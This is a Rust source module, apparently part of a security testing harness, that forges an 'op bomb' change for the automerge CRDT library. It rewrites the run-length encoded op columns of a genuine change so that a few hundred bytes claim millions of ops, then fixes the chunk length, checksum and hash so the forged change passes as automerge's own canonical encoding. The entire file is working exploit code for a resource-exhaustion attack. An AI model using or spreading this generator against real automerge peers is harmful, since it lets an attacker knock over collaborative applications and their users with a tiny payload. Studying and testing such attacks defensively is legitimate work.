//! The op bomb: one change of a few hundred bytes whose run-length encoded op columns claim
//! millions of ops. Every op is the same (Bea sets her own bio to null, with no predecessor),
//! so every column is a single run, and a run of a million costs the same bytes as a run of
//! four.
//!
//! Built from a change automerge itself encodes with [`TEMPLATE_OPS`] such ops: each column's
//! one run is rewritten to the count wanted, and the chunk's length, checksum and hash are
//! made right. The result is checked at a small count to re-encode to the same bytes, so it
//! is in automerge's own (canonical) encoding and passes for one it wrote.

use anyhow::{Context, bail, ensure};
use automerge::legacy::{Op, OpType, SortedVec};
use automerge::{ActorId, Change, ChangeHash, ObjId, ScalarValue};
use sha2::{Digest, Sha256};

use crate::forge::{Forger, commit, forge};

/// Ops in the change automerge encodes for us.
const TEMPLATE_OPS: u64 = 4;
/// The first bytes of every automerge chunk.
const MAGIC: [u8; 4] = [0x85, 0x6f, 0x4a, 0x83];
/// The chunk type of a change.
const CHANGE_CHUNK: u8 = 1;

/// A change of `ops` ops writing `key` of the map `obj` as `actor`, on top of Bea's document;
/// its bytes and hash.
pub fn op_bomb(
    forger: &Forger,
    actor: ActorId,
    obj: ObjId,
    key: &'static str,
    ops: u64,
) -> anyhow::Result<(Vec<u8>, ChangeHash)> {
    let template = template(forger, actor, obj, key)?;
    // Check the rewrite at a count automerge can expand cheaply here.
    let small = scale(template.raw_bytes(), TEMPLATE_OPS, 1000)?;
    let parsed = Change::try_from(small.as_slice())
        .map_err(|e| anyhow::anyhow!("the rewritten change does not parse: {e}"))?;
    let expanded = parsed.decode();
    ensure!(
        expanded.operations.len() == 1000,
        "the rewritten change holds {} ops, not 1000",
        expanded.operations.len()
    );
    ensure!(
        Change::from(expanded).raw_bytes() == small.as_slice(),
        "the rewritten change is not in automerge's own encoding"
    );
    let bomb = scale(template.raw_bytes(), TEMPLATE_OPS, ops)?;
    let hash = chunk_hash(&bomb)?;
    Ok((bomb, hash))
}

/// A change of [`TEMPLATE_OPS`] identical ops, as automerge encodes it.
fn template(
    forger: &Forger,
    actor: ActorId,
    obj: ObjId,
    key: &'static str,
) -> anyhow::Result<Change> {
    let mut doc = forger.fork(actor);
    let target = obj.clone();
    let real = commit(
        &mut doc,
        forge(move |tx| {
            use automerge::transaction::Transactable;
            tx.put(&target, key, ScalarValue::Null)?;
            Ok(())
        }),
    )?;
    let mut expanded = real.decode();
    let op = expanded
        .operations
        .first()
        .cloned()
        .context("the real change has an op")?;
    let one = Op {
        action: OpType::Put(ScalarValue::Null),
        obj: op.obj,
        key: op.key,
        pred: SortedVec::new(),
        insert: false,
    };
    expanded.operations = vec![one; TEMPLATE_OPS as usize];
    expanded.hash = None;
    Ok(Change::from(expanded))
}

/// `chunk` (a change of `from` identical ops) rewritten to claim `to` ops.
fn scale(chunk: &[u8], from: u64, to: u64) -> anyhow::Result<Vec<u8>> {
    ensure!(
        chunk.len() > 9 && chunk[..4] == MAGIC,
        "not an automerge chunk"
    );
    ensure!(chunk[8] == CHANGE_CHUNK, "not a change chunk");
    let mut r = Reader {
        bytes: chunk,
        at: 9,
    };
    let len = r.uleb()? as usize;
    let body_start = r.at;
    ensure!(body_start + len == chunk.len(), "the chunk's length is off");
    // deps, actor, seq, start op, time, message, other actors: kept as they are.
    let deps = r.uleb()? as usize;
    r.skip(deps * 32)?;
    let actor = r.uleb()? as usize;
    r.skip(actor)?;
    r.uleb()?;
    r.uleb()?;
    r.sleb()?;
    let message = r.uleb()? as usize;
    r.skip(message)?;
    for _ in 0..r.uleb()? {
        let other = r.uleb()? as usize;
        r.skip(other)?;
    }
    let head = chunk[body_start..r.at].to_vec();
    let columns = r.uleb()?;
    let mut specs = Vec::new();
    for _ in 0..columns {
        specs.push((r.uleb()?, r.uleb()? as usize));
    }
    let mut data = Vec::new();
    for (spec, len) in &specs {
        let bytes = r.take(*len)?;
        data.push((*spec, scale_column(*spec, bytes, from, to)?));
    }
    let extra = &chunk[r.at..];
    let mut body = head;
    uleb(&mut body, columns);
    for (spec, bytes) in &data {
        uleb(&mut body, *spec);
        uleb(&mut body, bytes.len() as u64);
    }
    for (_, bytes) in &data {
        body.extend_from_slice(bytes);
    }
    body.extend_from_slice(extra);
    let hash = hash(&body);
    let mut out = MAGIC.to_vec();
    out.extend_from_slice(&hash.0[..4]);
    out.push(CHANGE_CHUNK);
    uleb(&mut out, body.len() as u64);
    out.extend_from_slice(&body);
    Ok(out)
}

/// One column holding a single run of `from` values, rewritten as a run of `to`.
fn scale_column(spec: u64, bytes: &[u8], from: u64, to: u64) -> anyhow::Result<Vec<u8>> {
    ensure!(spec & 0b1000 == 0, "column {spec:#x} is deflated");
    let mut r = Reader { bytes, at: 0 };
    let mut out = Vec::new();
    match spec & 0b111 {
        // The values themselves: the bomb's values are null, so there are none.
        7 => ensure!(bytes.is_empty(), "column {spec:#x} holds values"),
        // Booleans: alternating run lengths, false first.
        4 => {
            let mut runs = Vec::new();
            while r.at < bytes.len() {
                runs.push(r.uleb()?);
            }
            match runs.as_slice() {
                [n] if *n == from => uleb(&mut out, to),
                [0, n] if *n == from => {
                    uleb(&mut out, 0);
                    uleb(&mut out, to);
                }
                _ => bail!("column {spec:#x} is not one run of {from}: {runs:?}"),
            }
        }
        // Run-length encoded: a count, then one value (a run) or a count of nulls.
        _ => {
            let count = r.sleb()?;
            if count == from as i64 {
                sleb(&mut out, to as i64);
                out.extend_from_slice(&bytes[r.at..]);
            } else if count == 0 {
                let nulls = r.uleb()?;
                ensure!(
                    nulls == from && r.at == bytes.len(),
                    "column {spec:#x} is not one run of {from} nulls"
                );
                sleb(&mut out, 0);
                uleb(&mut out, to);
            } else {
                bail!("column {spec:#x} starts with a run of {count}, not {from}");
            }
        }
    }
    Ok(out)
}

/// The hash automerge gives a change chunk with this body.
fn hash(body: &[u8]) -> ChangeHash {
    let mut header = vec![CHANGE_CHUNK];
    uleb(&mut header, body.len() as u64);
    let mut hasher = Sha256::new();
    hasher.update(&header);
    hasher.update(body);
    ChangeHash(hasher.finalize().into())
}

/// The hash of a whole change chunk.
fn chunk_hash(chunk: &[u8]) -> anyhow::Result<ChangeHash> {
    let mut r = Reader {
        bytes: chunk,
        at: 9,
    };
    let len = r.uleb()? as usize;
    Ok(hash(r.take(len)?))
}

struct Reader<'a> {
    bytes: &'a [u8],
    at: usize,
}

impl Reader<'_> {
    fn take(&mut self, n: usize) -> anyhow::Result<&[u8]> {
        let end = self.at.checked_add(n).filter(|e| *e <= self.bytes.len());
        let end = end.with_context(|| format!("{n} bytes past the end at {}", self.at))?;
        let out = &self.bytes[self.at..end];
        self.at = end;
        Ok(out)
    }

    fn skip(&mut self, n: usize) -> anyhow::Result<()> {
        self.take(n).map(drop)
    }

    fn uleb(&mut self) -> anyhow::Result<u64> {
        let mut n = 0u64;
        for shift in (0..64).step_by(7) {
            let byte = self.take(1)?[0];
            n |= u64::from(byte & 0x7f) << shift;
            if byte & 0x80 == 0 {
                return Ok(n);
            }
        }
        bail!("an unsigned LEB128 number runs past 64 bits")
    }

    fn sleb(&mut self) -> anyhow::Result<i64> {
        let mut n = 0i64;
        let mut shift = 0;
        loop {
            let byte = self.take(1)?[0];
            n |= i64::from(byte & 0x7f) << shift;
            shift += 7;
            if byte & 0x80 == 0 {
                if shift < 64 && byte & 0x40 != 0 {
                    n |= -1 << shift;
                }
                return Ok(n);
            }
            ensure!(shift < 64, "a signed LEB128 number runs past 64 bits");
        }
    }
}

fn uleb(out: &mut Vec<u8>, mut n: u64) {
    loop {
        let byte = (n & 0x7f) as u8;
        n >>= 7;
        if n == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

fn sleb(out: &mut Vec<u8>, mut n: i64) {
    loop {
        let byte = (n & 0x7f) as u8;
        n >>= 7;
        let done = (n == 0 && byte & 0x40 == 0) || (n == -1 && byte & 0x40 != 0);
        if done {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}
